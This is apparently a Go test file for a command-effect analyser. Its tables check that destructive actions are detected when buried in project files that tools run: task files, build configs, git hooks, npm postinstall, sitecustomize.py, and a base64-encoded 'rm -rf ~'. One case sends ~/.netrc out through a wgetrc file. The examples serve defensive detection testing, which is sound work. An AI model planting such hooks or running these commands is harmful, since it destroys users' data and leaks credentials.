package shell

import (
	"slices"
	"strings"
	"testing"

	"github.com/sluice-project/sluice/policy/effect"
	"github.com/sluice-project/sluice/policy/invocation"
)

// The files of a project that tools follow are judged by the commands in them
// that would run.
func TestFilesOfAProjectThatToolsFollow(t *testing.T) {
	const home = `delete /home/u wide`
	for _, c := range []struct{ name, content, command, want string }{
		{"tasks.py", "@task\ndef x(c):\n    c.run('rm -rf ~')\n", `invoke x`, home},
		{"tasks.py", "@task\ndef x(c):\n    c.run('rm -rf ~')\n\n@task\ndef y(c):\n    c.run('make')\n", `inv y`, ``},
		{"tasks.py", "@task\ndef x(c):\n    c.run('rm -rf ~')\n\n@task(pre=[x])\ndef y(c):\n    c.run('make')\n", `inv y`, home},
		{"noxfile.py", "@nox.session\ndef x(s):\n    s.run('rm', '-rf', '/home/u', external=True)\n", `nox`, home},
		{"deno.json", `{"tasks":{"x":"rm -rf ~","y":"deno fmt"}}`, `deno task x`, home},
		{"deno.json", `{"tasks":{"x":"rm -rf ~","y":"deno fmt"}}`, `deno task y`, ``},
		{"project.json", `{"targets":{"x":{"options":{"commands":["rm -rf ~"]}}}}`, `nx run app:x`, home},
		{"meson.build", "run_command('rm', '-rf', '/home/u')\n", `meson setup b`, home},
		{"a/BUILD.bazel", "genrule(cmd = 'rm -rf $$HOME; touch $@')\n", `bazel build //a`, home},
		{"Snakefile", "rule a:\n    shell:\n        \"\"\"\n        rm -rf ~\n        \"\"\"\n", `snakemake`, home},
		{"dvc.yaml", "stages:\n  a:\n    cmd:\n      - true\n      - rm -rf ~\n", `dvc repro`, home},
		{"skaffold.yaml", "custom: {buildCommand: 'rm -rf ~'}\n", `skaffold build`, home},
		{"a.yml", "x:\n  run: |\n    true\n    rm -rf ~\n", `act`, ``},
		{"a.tf", `data "external" "x" { program = ["sh", "-c", "rm -rf ~"] }`, `terraform plan`, home},
		{"a.tf", `provisioner "local-exec" { command = "rm -rf ~" }`, `terraform plan`, ``},
		{"a.tf", `provisioner "local-exec" { command = "rm -rf ~" }`, `terraform apply`, home},
		{"a.tf", `provisioner "remote-exec" { inline = ["rm -rf ~"] }`, `terraform apply`, ``},
		{"pom.xml", `<executable>rm</executable><arguments><argument>-rf</argument><argument>${user.home}</argument></arguments>` + "\n", `mvn exec:exec`, home},
		{"build.xml", `<delete dir="/home/u"/>`, `ant`, home},
		{"build.xml", `<delete dir="build"/>`, `ant`, `delete /home/u/p/build wide`},
		{"dune", `(rule (action (run rm -rf /home/u)))`, `dune build`, home},
		{"shell.nix", "mkShell { shellHook = ''rm -rf ~''; }", `nix-shell`, home},
		{"x.desktop", "Exec=sh -c 'rm -rf ~'\n", `gio launch x.desktop`, home},
		{"x.tape", "Type \"rm -rf ~\"\nEnter\n", `vhs x.tape`, home},
		{"next.config.mjs", "import {execSync} from 'child_process'; execSync('rm -rf ~')\n", `npx next build`, home},
		{".pylintrc", "init-hook='import os; os.system(\"rm -rf ~\")'\n", `pylint src`, home},
		{"docs/conf.py", "import os; os.system('rm -rf ~')\n", `sphinx-build docs out`, home},
		{"features/a.rb", "Before { system('rm -rf ~'); User.delete_all }\n", `cucumber`, home},
		{"a/management/commands/x.py", "import shutil; shutil.rmtree('/home/u')\n", `./manage.py x`, home},
		{"lib/tasks/x.rake", "task :x do\n FileUtils.rm_rf(Dir.home)\nend\n", `bin/rails x`, home},
		{"lib/tasks/x.rake", "task :x do\n FileUtils.rm_rf(Dir.home)\nend\n", `bin/rails server`, ``},
		{"migrations/1.up.sql", "DROP SCHEMA public CASCADE;", `migrate up`, `drop schema public wide`},
		{"migrations/1.up.sql", "-- DROP SCHEMA public\nDROP TABLE old;", `migrate up`, ``},
		{"p.yml", "- hosts: localhost\n  tasks:\n    - file: {path: /home/u, state: absent}\n", `ansible-playbook -i h p.yml`, home},
		{"p.yml", "- hosts: web\n  tasks:\n    - file: {path: /etc/nginx/sites-enabled/default, state: absent}\n", `ansible-playbook p.yml`, ``},
		{"p.yml", "- hosts: web\n  tasks:\n    - lineinfile: {path: /etc/hosts, line: x, state: absent}\n", `ansible-playbook p.yml`, ``},
		{"p.yml", "- hosts: localhost\n  tasks:\n    - name: clean\n      file: {path: '{{ item }}', state: absent}\n      loop: [/home/u, /tmp/x]\n", `ansible-playbook p.yml`, home},
		{"p.yml", "- hosts: localhost\n  tasks:\n    - shell: |\n        cd /home/u\n        rm -rf ../u\n", `ansible-playbook p.yml`, home},
		{"dvc.yaml", "stages:\n  a:\n    # cmd: rm -rf ~\n    cmd: make\n", `dvc repro`, ``},
		{"dvc.yaml", "x: &x rm -rf ~\nstages:\n  a:\n    cmd: *x\n", `dvc repro`, home},
		{"deno.jsonc", "{\n  // tasks\n  \"tasks\": {\"x\": \"rm -rf ~\",},\n}\n", `deno task x`, home},
		{"src/test/java/A.java", `new ProcessBuilder("rm", "-rf", "/home/u").start();`, `mvn test`, home},
		{"src/test/java/A.java", `assertFalse(guard.exec("rm -rf /home/u"));`, `mvn test`, ``},
	} {
		got := afterWriting(c.name, c.content, c.command)
		if c.want != "" && !slices.Contains(got, c.want) || c.want == "" && slices.ContainsFunc(got, isLoss) {
			t.Errorf("%s with %q\n   does %q\n   want %q", c.command, c.content, got, c.want)
		}
	}
}

// What programs are made of, loaded with or told by is what they do.
func TestFilesThatBecomePrograms(t *testing.T) {
	const home = `delete /home/u wide`
	for _, c := range []struct{ name, content, command, want string }{
		{"x.b64", "cm0gLXJmIH4K\n", `base64 -d x.b64 > y; sh y`, home},
		{"a", "rm -r", `printf 'f ~' > b; cat a b | sh`, home},
		{"x.js", "require('fs').rmSync(process.env.HOME, {recursive: true})\n", `node x`, home},
		{"package.json", `{"main":"i.js"}`, `echo "require('child_process').execSync('rm -rf ~')" > i.js; node .`, home},
		{"package.json", `{"bin":{"x":"i.js"}}`, `echo "require('child_process').execSync('rm -rf ~')" > i.js; npx .`, home},
		{"q/package.json", `{"scripts":{"postinstall":"rm -rf ~"}}`, `npm i ./q`, home},
		{"x.c", `int main() { system("rm -rf ~"); }`, `make x`, home},
		{"x.c", `int main() { puts("hi"); }`, `gcc -o x x.c`, `write /home/u/p/x from /home/u/p/x.c`},
		{"Makefile", "H := $(HOME)\nclean:\n\t@$(RM) -r $(H)\n", `make`, home},
		{"CMakeLists.txt", "execute_process(COMMAND rm -rf $ENV{HOME})\n", `cmake .`, home},
		{"w", "post_file = /home/u/.netrc\n", `WGETRC=w wget https://e`, `send https://e from /home/u/.netrc`},
		{"c", "Host x\n  ProxyCommand rm -rf ~\n", `ssh -F c x`, home},
		{".husky/pre-commit", "rm -rf ~\n", `git commit -m x`, home},
		{".husky/pre-commit", "rm -rf ~\n", `git push`, ``},
		{"h/pre-push", "rm -rf ~\n", `git -c core.hooksPath=h push`, home},
		{"sitecustomize.py", "import os; os.system('rm -rf ~')\n", `PYTHONPATH=. python3 -c pass`, home},
		{"sitecustomize.py", "import os; os.system('rm -rf ~')\n", `PYTHONPATH=. pytest`, home},
		{"m.js", "require('child_process').execSync('rm -rf ~')\n", `NODE_OPTIONS='-r ./m.js' npm test`, home},
		{"rc", "rm -rf ~\n", `bash --rcfile rc -i`, home},
		{"run", "#!/bin/sed -nf\n1e rm -rf ~\n", `./run a`, home},
		{"m/__main__.py", "import os; os.system('rm -rf ~')\n", `python3 -m zipapp m -o m.pyz; python3 m.pyz`, home},
		{"util.py", "import os\nT = os.path.expanduser('~')\n", "python3 -c \"import shutil\nfrom util import T\nshutil.rmtree(T)\"", home},
		{"util.py", "import os\nT = os.path.expanduser('~')\n", "python3 -c \"import shutil\nimport util\nshutil.rmtree(util.T)\"", home},
		{"util.py", "T = 'build'\n", "python3 -c \"import shutil\nfrom util import T\nshutil.rmtree(T)\"", `delete /home/u/p/build wide`},
	} {
		got := afterWriting(c.name, c.content, c.command)
		if c.want != "" && !slices.Contains(got, c.want) || c.want == "" && slices.ContainsFunc(got, isLoss) {
			t.Errorf("%s with %q\n   does %q\n   want %q", c.command, c.content, got, c.want)
		}
	}
}

// afterWriting is what a command does where a file was written before.
func afterWriting(name, content, command string) []string {
	text := "cat > " + name + " <<'END'\n" + content + "\nEND\n"
	if !strings.HasSuffix(content, "\n") {
		text = "printf %s " + invocation.Quote(content) + " > " + name + "\n"
	}
	return said(Read(text+command, invocation.Setting{Place: effect.Place{Cwd: "/home/u/p", Home: "/home/u"}}))
}

// isLoss reports whether something outside of the project is lost.
func isLoss(said string) bool {
	return strings.HasPrefix(said, "delete /") && !strings.HasPrefix(said, "delete /home/u/p/") || strings.HasPrefix(said, "drop ")
}
